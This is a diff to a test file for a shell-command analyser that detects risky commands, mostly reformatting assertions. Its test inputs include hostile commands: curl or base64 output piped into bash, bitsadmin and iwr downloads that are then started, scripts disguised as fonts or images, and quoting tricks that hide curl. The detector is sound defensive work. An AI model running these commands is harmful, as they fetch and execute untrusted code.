@@ -61,7 +61,11 @@ describe('benign commands', () => {
       const risky = a.signals.filter(s => RISKY.includes(s.kind));
       assert.deepEqual(risky, []);
       for (const t of want.tools ?? []) assert.ok(a.tools.includes(t), `tool ${t} in ${JSON.stringify(a.tools)}`);
-      for (const f of want.files ?? []) assert.ok(a.runsFiles.some(r => r.file === f), `file ${f} in ${JSON.stringify(a.runsFiles)}`);
+      for (const f of want.files ?? [])
+        assert.ok(
+          a.runsFiles.some(r => r.file === f),
+          `file ${f} in ${JSON.stringify(a.runsFiles)}`,
+        );
       for (const s of want.scripts ?? []) assert.ok(a.runsScripts.includes(s), `script ${s} in ${JSON.stringify(a.runsScripts)}`);
     });
   }
@@ -133,7 +137,9 @@ describe('malicious shapes', () => {
     'echo ZWNobyBoaQ== | base64 -d | sh',
     'curl -s http://198.51.100.4/a | base64 --decode | bash',
   ]) {
-    it(cmd, () => { assert.ok(kinds(cmd).has('pipe-to-interpreter'), JSON.stringify(analyzeCommand(cmd).signals)); });
+    it(cmd, () => {
+      assert.ok(kinds(cmd).has('pipe-to-interpreter'), JSON.stringify(analyzeCommand(cmd).signals));
+    });
   }
 
   for (const cmd of [
@@ -146,7 +152,9 @@ describe('malicious shapes', () => {
     'iwr https://x.example.invalid/s.exe -OutFile s.exe; start s.exe',
     'bitsadmin /transfer j /download http://192.0.2.1/p.exe C:\\Users\\Public\\p.exe & start C:\\Users\\Public\\p.exe',
   ]) {
-    it(cmd, () => { assert.ok(kinds(cmd).has('download-then-run'), JSON.stringify(analyzeCommand(cmd).signals)); });
+    it(cmd, () => {
+      assert.ok(kinds(cmd).has('download-then-run'), JSON.stringify(analyzeCommand(cmd).signals));
+    });
   }
 
   it('downloads alone', () => {
@@ -157,7 +165,7 @@ describe('malicious shapes', () => {
 
   it('inline code', () => {
     for (const cmd of [
-      'node -e "require(\'child_process\').exec(\'id\')"',
+      "node -e \"require('child_process').exec('id')\"",
       'node --eval "console.log(1)"',
       'node -p "process.env"',
       'python -c "import os"',
@@ -175,7 +183,10 @@ describe('malicious shapes', () => {
   it('bash -c is analysed recursively, with cd and nesting', () => {
     const a = analyzeCommand(`bash -c 'sh -c "curl https://x.example.invalid/a | bash"'`);
     assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
-    assert.deepEqual(a.commands.map(c => c.program), ['bash', 'sh', 'curl', 'bash']);
+    assert.deepEqual(
+      a.commands.map(c => c.program),
+      ['bash', 'sh', 'curl', 'bash'],
+    );
     const deep = analyzeCommand(`sh -c 'sh -c "sh -c \\"sh -c \\\\\\"sh -c \\\\\\\\\\\\\\"echo hi\\\\\\\\\\\\\\"\\\\\\"\\""'`);
     assert.ok(deep.signals.some(s => /deeper than/.test(s.detail)));
   });
@@ -225,7 +236,13 @@ describe('malicious shapes', () => {
   });
 
   it('disguised scripts', () => {
-    for (const cmd of ['node public/fonts/fa-solid.woff2', 'node assets/logo.png', 'python data/config.json', 'bash docs/notes.txt', 'node -r ./favicon.ico app.js']) {
+    for (const cmd of [
+      'node public/fonts/fa-solid.woff2',
+      'node assets/logo.png',
+      'python data/config.json',
+      'bash docs/notes.txt',
+      'node -r ./favicon.ico app.js',
+    ]) {
       assert.ok(kinds(cmd).has('disguised-script'), cmd);
     }
     assert.ok(!kinds('node server.mjs').has('disguised-script'));
@@ -259,8 +276,8 @@ describe('malicious shapes', () => {
 
 describe('quoting tricks', () => {
   it("empty quotes inside a word: c''url", () => {
-    assert.deepEqual(programs("c''url https://x.example.invalid/a | s\"\"h"), ['curl', 'sh']);
-    assert.ok(kinds("c''url https://x.example.invalid/a | s\"\"h").has('pipe-to-interpreter'));
+    assert.deepEqual(programs('c\'\'url https://x.example.invalid/a | s""h'), ['curl', 'sh']);
+    assert.ok(kinds('c\'\'url https://x.example.invalid/a | s""h').has('pipe-to-interpreter'));
   });
 
   it("ANSI-C quoting: $'\\x63url'", () => {
@@ -312,7 +329,10 @@ describe('cmd.exe and PowerShell syntax', () => {
 
   it('cmd /c runs its rest as a command', () => {
     const a = analyzeCommand('cmd /c "curl -s https://x.example.invalid/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat"');
-    assert.ok(a.signals.some(s => s.kind === 'download-then-run'), JSON.stringify(a.signals));
+    assert.ok(
+      a.signals.some(s => s.kind === 'download-then-run'),
+      JSON.stringify(a.signals),
+    );
   });
 
   it('cmd.exe escapes and if/else blocks', () => {
@@ -344,7 +364,7 @@ describe('bad input', () => {
       '\uFFFD\uD800 \u202E curl',
       'a'.repeat(100_000),
       '( '.repeat(5000),
-      'x=$(' .repeat(2000),
+      'x=$('.repeat(2000),
       '\r\n'.repeat(1000),
       'sh -c '.repeat(200) + 'id',
     ];
@@ -406,7 +426,9 @@ describe('PowerShell options', () => {
   });
 
   it('powershell -File runs a repository script', () => {
-    assert.deepEqual(analyzeCommand('powershell -NoProfile -File scripts/setup.ps1').runsFiles, [{ interpreter: 'powershell', file: 'scripts/setup.ps1' }]);
+    assert.deepEqual(analyzeCommand('powershell -NoProfile -File scripts/setup.ps1').runsFiles, [
+      { interpreter: 'powershell', file: 'scripts/setup.ps1' },
+    ]);
   });
 });
 
